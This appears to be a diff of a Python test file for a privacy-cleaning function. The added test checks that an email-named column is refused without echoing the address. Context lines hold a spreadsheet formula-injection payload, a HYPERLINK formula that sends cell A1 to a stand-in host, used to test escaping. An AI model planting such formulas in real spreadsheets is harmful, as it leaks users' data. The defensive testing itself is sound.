@@ -113,6 +113,12 @@ def test_what_looks_personal_is_taken_out_of_texts_of_any_kind(kind):
     assert cleaned["x"].isna().tolist() == [False] * 4 + [True] and texts[0] == "ann@example.com"
 
 
+def test_a_column_that_is_named_after_a_person_is_refused_without_its_name():
+    with pytest.raises(ParameterError, match="table: expected names of columns without mail") as refused:
+        remove_private(pd.DataFrame({"ann@example.com": [1]}))
+    assert "ann@" not in str(refused.value)
+
+
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_text_that_a_spreadsheet_would_run_is_led_by_an_apostrophe(start):
     formula = f'{start}HYPERLINK("http://x"&A1,"Latte")'
